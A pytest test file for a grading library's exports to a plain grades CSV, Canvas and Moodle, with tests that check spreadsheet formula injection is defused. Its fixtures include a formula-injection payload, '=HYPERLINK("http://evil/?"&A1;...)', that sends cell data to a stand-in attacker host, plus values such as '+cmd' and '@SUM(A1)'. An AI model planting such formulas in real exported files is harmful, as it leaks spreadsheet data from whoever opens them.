"""The tables of grades: for people, for Canvas, for Moodle."""

from __future__ import annotations

import csv
import dataclasses
import os
import re
from pathlib import Path

import pytest
from grader.book_records import begin, exercises, record
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bnlib.grader.exports import spreadsheet
from bnlib.grader.exports.lms import GradesTable, canvas_csv, moodle_csv
from bnlib.grader.exports.spreadsheet import ExportError
from bnlib.grader.gradebook import Gradebook, GradebookError, Student
from bnlib.grader.record import UNREADABLE, marks_without_answers

POSSIBLE = {n: sum(e.points for e in exercises(n)) for n in ("04_algorithm", "05_backward")}
FORMULA = '=HYPERLINK("http://evil/?"&A1;"ok")'


def grades_csv(book, path) -> None:
    table = GradesTable(book)
    for student in book.students():
        table.add(student, book.final(student.id))
    table.write(path)


@pytest.fixture
def book(tmp_path):
    """Ada did both notebooks, Bob one, Cyd none; a stranger is not on the roster."""
    with Gradebook.open(tmp_path / "gradebook.sqlite") as book:
        run = begin(book)
        book.enrol(
            [
                Student("ada", 'Ada, Countess of "Lovelace"', True),
                Student("bob", "Bób", True),
                Student("cyd", "Cyd", True),
            ]
        )
        book.add(run, record("ada", wrong=["standardize_batch"]), [])
        book.add(run, record("ada", "05_backward"), [])
        book.add(run, record("bob"), [])
        book.add(run, record("stranger"), [])
        book.adjust("ada", "standardize_batch", 4.5, "only a sign")
        yield book


def only(book: Gradebook, *students: Student, **changes) -> None:
    """Enrol these instead, each with one notebook done."""
    book.enrol(students)
    for student in students:
        book.add(book.runs()[0], record(student.id, **changes), [])


def table(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file, strict=True))


class TestGrades:
    def test_a_row_for_each_student(self, book, tmp_path):
        grades_csv(book, tmp_path / "grades.csv")
        ada, bob, _, stranger = table(tmp_path / "grades.csv")
        points = POSSIBLE["04_algorithm"] - 6 + 4.5
        everything = sum(POSSIBLE.values())
        assert ada["student"] == "ada"
        assert ada["name"] == 'Ada, Countess of "Lovelace"'
        assert float(ada["04_algorithm points"]) == points
        assert float(ada["04_algorithm possible"]) == POSSIBLE["04_algorithm"]
        assert ada["04_algorithm outcome"] == "graded"
        assert ada["04_algorithm/standardize_batch"] == "4.5"
        assert ada["04_algorithm/batchnorm_forward"] == "7"
        assert (ada["04_algorithm adjusted"], ada["05_backward adjusted"]) == ("yes", "no")
        assert float(ada["total"]) == points + POSSIBLE["05_backward"]
        assert float(ada["possible"]) == everything
        assert float(ada["percent"]) == pytest.approx(
            100 * float(ada["total"]) / everything, abs=0.005
        )
        # A notebook that is missing counts nothing of its points.
        assert bob["name"] == "Bób"
        assert bob["05_backward outcome"] == "missing"
        assert bob["05_backward points"] == bob["05_backward/affine_backward"] == ""
        assert float(bob["possible"]) == everything
        assert float(bob["total"]) == POSSIBLE["04_algorithm"]
        assert stranger["name"] == ""

    def test_nothing_handed_in_is_an_empty_row(self, book, tmp_path):
        grades_csv(book, tmp_path / "grades.csv")
        cyd = table(tmp_path / "grades.csv")[2]
        filled = {name: cell for name, cell in cyd.items() if cell}
        assert filled == {
            "student": "cyd",
            "name": "Cyd",
            "04_algorithm outcome": "missing",
            "05_backward outcome": "missing",
        }

    def test_the_columns_in_order(self, book, tmp_path):
        grades_csv(book, tmp_path / "grades.csv")
        head = (tmp_path / "grades.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
        names = [e.name for e in exercises("04_algorithm")]
        assert head[:5] == ["student", "name"] + [
            f"04_algorithm {what}" for what in ("points", "possible", "outcome")
        ]
        assert head[5 : 5 + len(names)] == [f"04_algorithm/{name}" for name in names]
        assert head[5 + len(names) :][:2] == ["04_algorithm adjusted", "05_backward points"]
        assert head[-3:] == ["total", "possible", "percent"]

    def test_unreadable_and_absent_files_look_different(self, book, tmp_path):
        none = marks_without_answers("05_backward", "not judged", "no notebook")
        changes = {"outcome": UNREADABLE, "problem": "no notebook", "marks": none}
        book.add(book.runs()[0], record("bob", "05_backward", digest="", **changes), [])
        book.add(book.runs()[0], record("cyd", "05_backward", **changes), [])
        grades_csv(book, tmp_path / "grades.csv")
        _, bob, cyd, _ = table(tmp_path / "grades.csv")
        assert (bob["05_backward outcome"], bob["05_backward points"]) == ("missing", "0")
        assert (cyd["05_backward outcome"], cyd["05_backward points"]) == ("unreadable", "0")

    def test_no_formula_gets_in(self, book, tmp_path):
        only(book, Student("=1+1", FORMULA, True), Student("-12", "x;@SUM(A1)", True))
        grades_csv(book, tmp_path / "grades.csv")
        rows = {row["student"]: row["name"] for row in table(tmp_path / "grades.csv")}
        assert rows["'=1+1"] == "'" + FORMULA
        assert rows["-12"] == "x;'@SUM(A1)"
        assert "ada" in rows

    def test_a_book_with_nobody_in_it(self, tmp_path):
        with Gradebook.open(tmp_path / "gradebook.sqlite") as book:
            grades_csv(book, tmp_path / "grades.csv")
        written = (tmp_path / "grades.csv").read_bytes()
        assert written == b"student,name,total,possible,percent\r\n"


class TestCanvas:
    def rows(self, book, path, **options):
        said = canvas_csv(book, path, **options)
        with open(path, newline="", encoding="utf-8") as file:
            return list(csv.reader(file, strict=True)), said

    def test_as_its_importer_reads_it(self, book, tmp_path):
        rows, said = self.rows(book, tmp_path / "canvas.csv")
        assert rows[0] == [
            *("Student", "ID", "SIS User ID", "SIS Login ID", "Section"),
            *("04_algorithm", "05_backward"),
        ]
        assert rows[1][0].strip() == "Points Possible"
        assert rows[1][1:5] == [""] * 4
        assert list(map(float, rows[1][5:])) == list(POSSIBLE.values())
        assert rows[2][:5] == ['Ada, Countess of "Lovelace"', "", "", "ada", ""]
        assert float(rows[2][5]) == POSSIBLE["04_algorithm"] - 1.5
        assert rows[3][3] == "bob"
        assert rows[3][6] == ""
        assert rows[4] == ["Cyd", "", "", "cyd", "", "", ""]
        assert len(rows) == 5
        assert said == ["left out: SIS Login ID 'stranger', which the roster does not have"]

    def test_assignments_under_canvass_own_names(self, book, tmp_path):
        columns = {"05_backward": "Backward pass (4711)"}
        rows, _ = self.rows(book, tmp_path / "c.csv", identifier="SIS User ID", columns=columns)
        assert rows[0][5:] == ["Backward pass (4711)"]
        assert rows[2][:4] == ['Ada, Countess of "Lovelace"', "", "ada", ""]

    def test_its_own_id_is_a_number_and_nothing_else(self, book, tmp_path):
        ids = ["4711", "12ab", "0012", "-5"]
        only(book, *(Student(id, id, True) for id in ids))
        rows, said = self.rows(book, tmp_path / "c.csv", identifier="ID")
        assert [row[1] for row in rows[2:]] == ["4711"]
        left = [s for s in said if "roster" not in s]
        assert len(left) == 3
        assert all("no number of Canvas" in s for s in left)

    def test_ids_that_would_become_others_are_left_out(self, book, tmp_path):
        ids = ["12.34", "1,5", "007", "a.b", "=1", "+x", "ada@school.edu", "a\tb", " "]
        only(book, *(Student(id, f"n {id}", True) for id in ids))
        rows, said = self.rows(book, tmp_path / "c.csv")
        assert {row[3] for row in rows[2:]} == {"007", "a.b", "ada@school.edu"}
        assert sum("decimal" in s for s in said) == 2
        assert sum("formula" in s for s in said) == 4

    def test_a_name_that_two_students_share_does_not_stand_alone(self, book, tmp_path):
        twins = [Student("a1", "Ann Lee", True), Student("a2", "Ann Lee", True)]
        only(book, *twins, Student("eve", "    Points Possible", True))
        rows, _ = self.rows(book, tmp_path / "c.csv")
        assert [row[0] for row in rows[2:]] == ["Ann Lee (a1)", "Ann Lee (a2)", ""]

    def test_without_a_roster_everybody_is_in_it_without_a_name(self, tmp_path):
        with Gradebook.open(tmp_path / "gradebook.sqlite") as book:
            book.add(begin(book), record("ada"), [])
            rows, said = self.rows(book, tmp_path / "c.csv")
        assert rows[2][:4] == ["", "", "", "ada"]
        assert said == []

    @pytest.mark.parametrize(
        ("options", "said"),
        [
            ({"identifier": "SIS Login"}, "did you mean 'SIS Login ID'"),
            ({"columns": {"04_algoritm": "A (1)"}}, "did you mean '04_algorithm'"),
            ({"columns": {"zzz": "A (1)"}}, "there are: 04_algorithm, 05_backward"),
            ({"columns": {"04_algorithm": "A (1)", "05_backward": "A (1)"}}, "names of their own"),
            ({"columns": {"04_algorithm": " "}}, "names of their own"),
            ({"columns": {"04_algorithm": "Final Score (1)"}}, "passes over"),
        ],
    )
    def test_what_is_refused(self, book, tmp_path, options, said):
        with pytest.raises(ExportError, match=said):
            canvas_csv(book, tmp_path / "c.csv", **options)
        assert not (tmp_path / "c.csv").exists()

    def test_nothing_graded(self, tmp_path):
        with (
            Gradebook.open(tmp_path / "gradebook.sqlite") as book,
            pytest.raises(ExportError, match="nothing was graded yet"),
        ):
            canvas_csv(book, tmp_path / "c.csv")


class TestMoodle:
    def test_as_its_importer_reads_it(self, book, tmp_path):
        said = moodle_csv(book, tmp_path / "m.csv", columns={"04_algorithm": "Assignment: 4"})
        ada, bob, cyd = table(tmp_path / "m.csv")
        assert list(ada) == ["Username", "Assignment: 4"]
        assert (ada["Username"], float(ada["Assignment: 4"])) == ("ada", 28.5)
        assert float(bob["Assignment: 4"]) == POSSIBLE["04_algorithm"]
        assert cyd == {"Username": "cyd", "Assignment: 4": "-"}
        # One student whom Moodle does not know, and it imports nobody.
        assert said == ["left out: Username 'stranger', which the roster does not have"]

    def test_an_empty_id_would_grade_the_student_before(self, book, tmp_path):
        only(book, Student("0", "Nul", True), Student("00", "Nulnul", True))
        said = moodle_csv(book, tmp_path / "m.csv", identifier="ID number")
        assert [row["ID number"] for row in table(tmp_path / "m.csv")] == ["00"]
        assert any("'0', which Moodle takes for an empty one" in s for s in said)

    def test_a_grade_above_its_limit_is_said(self, book, tmp_path):
        book.adjust("bob", "standardize_batch", 99, "a bonus")
        said = moodle_csv(book, tmp_path / "m.csv")
        assert any(re.search("'bob' has 123 points: Moodle takes at most 100", s) for s in said)

    def test_a_file_that_never_came_has_no_grade(self, book, tmp_path):
        none = marks_without_answers("05_backward", "not judged", "no notebook")
        book.add(
            book.runs()[0],
            record("bob", "05_backward", digest="", outcome=UNREADABLE, marks=none),
            [],
        )
        moodle_csv(book, tmp_path / "m.csv")
        assert table(tmp_path / "m.csv")[1]["05_backward"] == "-"

    def test_what_is_refused(self, book, tmp_path):
        with pytest.raises(ExportError, match="did you mean 'Email address'"):
            moodle_csv(book, tmp_path / "m.csv", identifier="email address")


class TestCells:
    @pytest.mark.parametrize(
        "cell",
        [
            "ada",
            "12345",
            "-5",
            "+1.5",
            "a-b",
            "ada@school.edu",
            "O'Neil",
            "Ada (1)",
            "",
            "x=1",
            "李",
        ],
    )
    def test_usual_cells_stay(self, cell):
        assert spreadsheet.text(cell) == cell

    @pytest.mark.parametrize(
        ("cell", "shown"),
        [
            ("=1+1", "'=1+1"),
            ("+cmd", "'+cmd"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "' =1"),
            ("\r=1", "' =1"),
            ("a\r\n=1", "a  =1"),
            ("  =1", "'  =1"),
            ("\uff1d1", "'\uff1d1"),
            ("a;=1", "a;'=1"),
            ('a;"=1', "a;\"'=1"),
            ("a\0b", "a b"),
            ("\ud800", "?"),
        ],
    )
    def test_formulas_are_defused(self, cell, shown):
        assert spreadsheet.text(cell) == shown

    @given(st.text(st.characters(codec=None)))
    @example("=\n=,=;=")
    def test_no_text_computes_however_it_is_split(self, value):
        shown = spreadsheet.text(value)
        shown.encode("utf-8")
        assert spreadsheet.text(shown) == shown
        assert not re.search(r"[\x00-\x1f]", shown)
        for cell in (shown, *re.split('[;,|"]', shown)):
            number = re.fullmatch(r"[+-]?\d+(\.\d+)?", shown, re.ASCII)
            assert number or not cell.lstrip().startswith(tuple("=+-@＝＋－＠"))

    @given(st.lists(st.lists(st.text(), min_size=2, max_size=4), max_size=5))
    @settings(
        max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None
    )
    def test_written_rows_come_back(self, tmp_path, rows):
        path = tmp_path / "t.csv"
        cells = [[spreadsheet.text(cell) for cell in row] for row in rows]
        spreadsheet.write(path, cells)
        assert path.read_bytes().count(b"\n") == len(rows)
        with open(path, newline="", encoding="utf-8") as file:
            assert list(csv.reader(file, strict=True)) == cells

    @pytest.mark.parametrize(
        ("value", "shown"),
        [
            (24, "24"),
            (7.5, "7.5"),
            (0.1 + 0.2, "0.3"),
            (0, "0"),
            (-0.0, "0"),
            (100, "100"),
            (1e6, "1000000"),
            (1 / 3, "0.3333"),
        ],
    )
    def test_plain_numbers(self, value, shown):
        assert spreadsheet.number(value) == shown


class TestWriting:
    def test_what_was_there_stays_until_the_new_file_is_whole(self, tmp_path):
        path = tmp_path / "grades.csv"
        path.write_text("old")

        def rows():
            yield ["new"] * 2
            assert path.read_text() == "old"
            raise RuntimeError("in the middle")

        with pytest.raises(RuntimeError, match="in the middle"):
            spreadsheet.write(path, rows())
        assert path.read_text() == "old"
        assert os.listdir(tmp_path) == ["grades.csv"]
        spreadsheet.write(path, [["new"]])
        assert path.read_text() == "new\n"
        assert os.listdir(tmp_path) == ["grades.csv"]

    @pytest.mark.parametrize("name", ["none/grades.csv", "folder"])
    def test_a_place_that_does_not_take_it(self, tmp_path, name):
        (tmp_path / "folder").mkdir()
        with pytest.raises(ExportError, match=r"cannot write .*(No such file|Is a directory)"):
            spreadsheet.write(tmp_path / name, [["x"]])
        assert os.listdir(tmp_path) == ["folder"]

    def test_a_gradebook_that_cannot_be_read_leaves_the_old_table(self, book, tmp_path):
        grades_csv(book, tmp_path / "grades.csv")
        before = (tmp_path / "grades.csv").read_bytes()
        book._db.execute("UPDATE records SET record = '{' WHERE student = 'bob'")
        with pytest.raises(GradebookError, match="the record of 'bob'"):
            grades_csv(book, tmp_path / "grades.csv")
        assert (tmp_path / "grades.csv").read_bytes() == before


def test_exercises_that_a_record_does_not_have(book, tmp_path):
    """Graded by an earlier library, which had fewer."""
    fewer = record("bob")
    book.add(book.runs()[0], dataclasses.replace(fewer, marks=fewer.marks[1:]), [])
    book.add(book.runs()[0], record("zoe"), [])
    grades_csv(book, tmp_path / "grades.csv")
    bob = table(tmp_path / "grades.csv")[1]
    assert bob["04_algorithm/standardize_batch"] == ""
    assert float(bob["04_algorithm possible"]) == POSSIBLE["04_algorithm"] - 6
